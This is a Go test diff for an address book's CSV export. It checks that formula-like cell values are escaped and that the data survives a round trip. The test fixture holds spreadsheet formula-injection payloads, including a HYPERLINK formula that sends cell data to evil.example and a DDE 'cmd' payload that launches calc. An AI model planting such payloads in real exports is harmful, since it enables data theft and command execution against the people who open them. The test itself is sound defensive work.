@@ -3,6 +3,7 @@ package addressbook
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
@@ -604,4 +605,34 @@ func TestCSVExportImportRoundTrip(t *testing.T) {
 			t.Errorf("import of an accounts contact %+v %v", res, err)
 		}
 	})
+}
+
+func TestWriteCSVGuardsFormulas(t *testing.T) {
+	hostile := Fields{
+		DisplayName: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Organization: "+cmd|' /C calc'!A0",
+		Department: "-2+3", Title: "@SUM(1+1)", Info: "=1+1\nsecond line",
+		Phones: []Phone{{Number: "+7 495 123-45-67", Kind: PhoneWork, Normalized: "74951234567"}},
+		Emails: []string{}, Messengers: []Messenger{{Kind: "telegram", Handle: "@evil"}},
+	}
+	var b bytes.Buffer
+	err := WriteCSV(&b, func(fn func(Contact) error) error { return fn(Contact{ID: 1, Fields: hostile}) }, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for i, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("column %s starts a formula: %q", rows[0][i], cell)
+		}
+	}
+	recs, rejected, err := ReadCSV(bytes.NewReader(b.Bytes()))
+	if err != nil || len(rejected) != 0 || len(recs) != 1 {
+		t.Fatalf("%d records, %v, %v", len(recs), rejected, err)
+	}
+	if !reflect.DeepEqual(recs[0].Fields, hostile) {
+		t.Errorf("read back %+v\nwant %+v", recs[0].Fields, hostile)
+	}
 }
